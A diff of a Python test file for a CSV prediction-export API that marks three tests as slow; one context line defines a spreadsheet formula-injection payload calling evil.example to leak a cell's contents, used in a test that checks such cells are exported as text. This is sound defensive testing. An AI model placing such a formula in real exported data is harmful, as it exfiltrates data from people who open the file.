@@ -128,6 +128,7 @@ def test_an_empty_window_is_an_empty_body_or_a_lone_header(sent: AppClient) -> N
     assert header[0] == "prediction_id" and rows == []
 
 
+@pytest.mark.slow
 def test_pages_of_any_size_join_into_the_same_export(sent: AppClient, app: FastAPI) -> None:
     request = ExportRequest(START, START + timedelta(hours=1), ExportFormat.CSV, None, False, 38)
     sessions = app.state.context.sessions
@@ -163,6 +164,7 @@ def test_a_regression_model_exports_values(client: AppClient) -> None:
     assert (exported["prediction"], exported["label"]) == (1234.5, 1200.0)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("params", "field"),
     [
@@ -197,6 +199,7 @@ def test_an_unknown_model_is_404(client: AppClient) -> None:
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
 
 
+@pytest.mark.slow
 def test_csv_cells_that_would_start_a_formula_are_text(client: AppClient) -> None:
     assert client.post("/v1/models", json=registration()).status_code == 201
     hostile = features(6) | {
